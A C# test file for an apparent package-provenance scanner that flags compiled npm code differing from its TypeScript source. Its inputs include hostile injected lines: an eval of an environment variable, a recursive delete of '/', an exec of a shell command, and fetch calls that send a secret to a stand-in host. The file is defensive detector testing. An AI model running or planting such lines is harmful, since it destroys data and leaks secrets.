using Sluice.Findings;
using Sluice.Policies;
using Sluice.Sources;
using Sluice.Tests.Support;

namespace Sluice.Tests.Sources;

/// <summary>What a compiler makes of a file has the file's statements, and no others.</summary>
public sealed class StatementTests
{
    private const string Manifest = """{"name":"greet","version":"1.0.0","license":"MIT","main":"dist/store.js"}""";

    private const string Written = """
        import { readFileSync, writeFileSync } from "node:fs";
        import { join } from "node:path";
        import helper from "./text-utils";

        export interface Entry { subject: string; letter: number }

        /** Keeps greetings. */
        export class Store {
          private entries: Entry[] = [];

          constructor(private readonly folder: string) {}

          load(name: string): Entry[] {
            const raw = readFileSync(join(this.folder, name), "utf8");
            this.entries = JSON.parse(raw) as Entry[];
            return this.entries.filter((entry) => entry.letter !== 0);
          }

          find(subject: string): Entry | undefined {
            return this.entries.find((entry) => entry.subject === subject && !entry.letter);
          }

          clamp(value: number, lower: number, upper: number): number {
            return Math.max(lower, Math.min(value, upper));
          }

          save(name: string): void {
            writeFileSync(join(this.folder, name), JSON.stringify(this.entries, null, 2) + helper());
          }
        }

        """;

    private const string Compiled = """
        "use strict";
        var __importDefault = (this && this.__importDefault) || function (mod) {
            return (mod && mod.__esModule) ? mod : { "default": mod };
        };
        Object.defineProperty(exports, "__esModule", { value: true });
        exports.Store = void 0;
        const node_fs_1 = require("node:fs");
        const node_path_1 = require("node:path");
        const text_utils_1 = __importDefault(require("./text-utils"));
        /** Keeps greetings. */
        class Store {
            folder;
            entries = [];
            constructor(folder) {
                this.folder = folder;
            }
            load(name) {
                const raw = (0, node_fs_1.readFileSync)((0, node_path_1.join)(this.folder, name), "utf8");
                this.entries = JSON.parse(raw);
                return this.entries.filter((entry) => entry.letter !== 0);
            }
            find(subject) {
                return this.entries.find((entry) => entry.subject === subject && !entry.letter);
            }
            clamp(value, lower, upper) {
                return Math.max(lower, Math.min(value, upper));
            }
            save(name) {
                (0, node_fs_1.writeFileSync)((0, node_path_1.join)(this.folder, name), JSON.stringify(this.entries, null, 2) + (0, text_utils_1.default)());
            }
        }
        exports.Store = Store;
        //# sourceMappingURL=store.js.map

        """;

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void The_plain_output_of_a_compiler_is_of_the_source(bool hasMap)
    {
        var report = Hold(Compiled, hasMap);

        Assert.Equal(1, SourceFolder.Comparison(report).Explained);
        Assert.DoesNotContain("source-mismatch", string.Join(' ', SourceFolder.Provenance(report)), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("entry.subject === subject", "entry.subject !== subject")]
    [InlineData("entry.letter !== 0", "entry.letter === 0")]
    [InlineData("subject && !entry", "subject || !entry")]
    [InlineData("&& !entry.letter", "&& entry.letter && !entry")]
    public void Another_comparison_is_told(string from, string to)
    {
        if (to.Contains("&& !entry", StringComparison.Ordinal))
            to = from;
        var report = Hold(Compiled.Replace(from, to, StringComparison.Ordinal), true);

        Assert.Equal(from != to, report.Findings.Any(finding => finding.Finding.Rule.Id == "provenance/source-mismatch"));
        Assert.Equal(from != to ? Decision.Hold : Decision.Allow, report.Decision);
    }

    [Fact]
    public void So_is_one_at_the_end_of_the_file()
    {
        const string Source = "export class A {\n  find(subject: string) {\n    return this.entries.find((entry) => entry.subject === subject);\n  }\n}\n";
        const string Output = "class A {\n    find(subject) {\n        return this.entries.find((entry) => entry.subject !== subject);\n    }\n}\nexports.A = A;\n";

        Assert.Equal(["=== !=="], Changes(Source, Output));
    }

    [Fact]
    public void A_negation_more_is_told() =>
        Assert.Equal(Decision.Hold, Hold(Compiled.Replace("=> entry.letter !== 0", "=> !entry.letter !== 0", StringComparison.Ordinal), true).Decision);

    [Fact]
    public void Another_function_warns()
    {
        var report = Hold(Compiled.Replace("Math.max(lower", "Math.pow(lower", StringComparison.Ordinal), true);

        Assert.Contains(report.Findings, finding => finding.Finding is { Rule.Id: "provenance/source-mismatch", Severity: Severity.Medium } && finding.Finding.Message.Contains("'pow' for 'max'", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("eval(process.env.T);")]
    [InlineData("require('fs').rmSync('/', { recursive: true });")]
    [InlineData("require('child_process').exec('id');")]
    [InlineData("fetch('https://collect.example.invalid/' + process.env.T);")]
    [InlineData("Store.prototype.load.constructor('return this')();")]
    public void Code_that_does_something_and_is_not_there_stops(string code)
    {
        foreach (var text in (string[])[Compiled + code + "\n", Compiled.Replace("    load(name) {", "    load(name) {\n" + code, StringComparison.Ordinal)])
        {
            var report = Hold(text, true);

            Assert.Contains(report.Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch");
            Assert.NotEqual(Decision.Allow, report.Decision);
        }
    }

    [Theory]
    [InlineData("export default (a?: number, b = a ?? 1) => a! === b || a! > (b as number);\n", "export default (a, b = a ?? 1) => a === b || a > b;\n")]
    [InlineData("export const enum X { A }\nexport const f = async <T extends object>(x: T): Promise<T> => { for await (const y of x as any) { if (y !== null) return y; } return x; };\n", "export const f = async (x) => { for await (const y of x) { if (y !== null) return y; } return x; };\n")]
    [InlineData("export const v = '0.0.0';\nexport const w = v === 'x' ? \"y\" : 'z';\n", "export const v = '1.0.0';\nexport const w = v === \"x\" ? \"y\" : \"z\";\n")]
    public void What_compilers_do_is_no_change(string written, string output)
    {
        Assert.Empty(Changes(written, output) ?? []);
    }

    [Fact]
    public void Of_two_different_programs_nothing_is_said() =>
        Assert.Null(Changes(Written, string.Concat(Enumerable.Range(0, 300).Select(i => $"export const value{i} = compute{i}(other{i});\n"))));

    [Theory]
    [InlineData("require('https').get('https://collect.example.invalid/x');\n", 0, true)]
    [InlineData("require('https').get('https://collect.example.invalid/x');\n", 20_000, true)]
    [InlineData("const { exec } = require('child_process');\nexec('id');\n", 0, true)]
    [InlineData("const { exec } = require('child_process');\nexec('id');\n", 20_000, true)]
    [InlineData("module.exports = function (a) { return a + 1; };\n", 20_000, false)]
    public void Code_that_reaches_out_and_is_not_in_the_source_is_held_whatever_its_size(string code, int padding, bool isHeld)
    {
        var report = Hold(Compiled, true, ("dist/telemetry.js", code + string.Concat(Enumerable.Range(0, padding / 40).Select(i => $"exports.someOtherName{i} = 'padding {i} padding';\n"))));

        Assert.Equal(isHeld, report.Decision is Decision.Hold or Decision.Deny);
    }

    [Fact]
    public void A_bundle_with_the_packages_own_code_in_it_may_reach_out()
    {
        string[] own = ["parseHeaderLine", "readTokenStream", "writeFieldList", "mergeOptionSet", "formatErrorText", "checkRangeLimit"];
        var code = string.Concat(own.Select(name => $"export function {name}(input: string): string {{\n  return input + \"{name}\";\n}}\n"));
        var others = string.Concat(Enumerable.Range(0, 200).Select(i => $"function strangersThing{i}(a) {{ return a.someOtherField{i}; }}\n"));
        using var tree = SourceFolder.Of("v1.0.0", ("package.json", Manifest), ("src/store.ts", code), ("src/plain.ts", "export const plainValueOfThis = 1;\n"));
        var report = tree.Hold("greet-1.0.0.tgz", TestArchive.Npm(Manifest, ("dist/plain.js", "export const plainValueOfThis = 1;\n"), ("dist/bundle.js", code.Replace(": string", "", StringComparison.Ordinal) + others + "require('https').get('https://collect.example.invalid/x');\n")));

        Assert.DoesNotContain("source-mismatch", string.Join(' ', SourceFolder.Provenance(report)), StringComparison.Ordinal);
    }

    private static List<string>? Changes(string written, string output)
    {
        var (source, text) = (SourceCode.OfOne("a.ts", System.Text.Encoding.UTF8.GetBytes(written)), System.Text.Encoding.UTF8.GetBytes(output));
        return StatementDifference.Of(source, CodeTokens.Read(text), text)?.Changes.ConvertAll(change => change.IsExchanged ? $"{source.TextAt(change.Old)} {change.Is}" : change.Is ?? "code");
    }

    private static Report Hold(string output, bool hasMap, params (string Path, string Text)[] more)
    {
        using var tree = SourceFolder.Of("v1.0.0", ("package.json", Manifest), ("src/store.ts", Written), ("src/text-utils.ts", "export default function helper(): string {\n  return \"\\n\";\n}\n"));
        (string, string)[] files = [("dist/store.js", output), .. hasMap ? new[] { ("dist/store.js.map", """{"version":3,"file":"store.js","sourceRoot":"","sources":["../src/store.ts"],"names":[],"mappings":"AAAA"}""") } : [], .. more];
        return tree.Hold("greet-1.0.0.tgz", TestArchive.Npm(Manifest, files));
    }
}
